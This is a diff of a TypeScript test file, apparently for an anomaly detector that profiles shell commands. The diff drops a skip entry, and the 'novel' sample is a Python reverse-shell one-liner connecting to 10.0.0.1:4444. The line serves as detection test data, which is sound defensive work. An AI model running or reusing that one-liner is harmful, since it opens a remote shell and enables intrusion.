@@ -13,7 +13,6 @@ const run = (host: string, time: number, args: string[]) =>
 runProfilerConformance({
   name: 'command-model',
   create: () => createCommandModelProfiler({ minTemplates: 50 }),
-  skip: { decay: 'the language model keeps counts without decay (docs/anomaly.md, "Limits")', fleet: 'it scores only shapes no host ran, so a peer having it means no finding at all (covered by the feedback test)' },
   samples: {
     normal: (host, time, i) => [run(host, time, [tools[i % tools.length]!, words[(i * 7) % words.length]!, `--${words[(i * 3) % words.length]}`, words[(i * 5 + 1) % words.length]!])],
     novel: (host, time) => [run(host, time, ['python3', '-c', 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0)'])],
